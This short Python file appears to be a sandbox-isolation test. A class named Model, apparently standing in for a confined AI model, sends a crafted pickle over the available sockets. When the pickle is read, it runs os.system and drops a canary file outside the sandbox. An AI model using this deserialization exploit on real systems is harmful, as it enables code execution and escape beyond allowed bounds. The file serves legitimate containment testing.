"""Replies with a pickle that runs a command where it is read."""

import os
import pickle
import struct
import time


from lib import BAIT, Attacker, attempt, loot, read, sockets  # noqa: F401


class Model(Attacker):
    def attack(self):
        class Bomb:
            def __reduce__(self):
                return os.system, ("touch " + os.path.join(BAIT["outside"], "exploded"),)

        payload = pickle.dumps(Bomb())
        header = b'{"done": true}'
        for name in sockets():
            frame = struct.pack("!IQ", len(header), len(payload)) + header + payload
            os.write(name, struct.pack("!IQ", 2, 0) + b"{}")
            time.sleep(0.3)
            os.write(name, frame)
        time.sleep(3600)
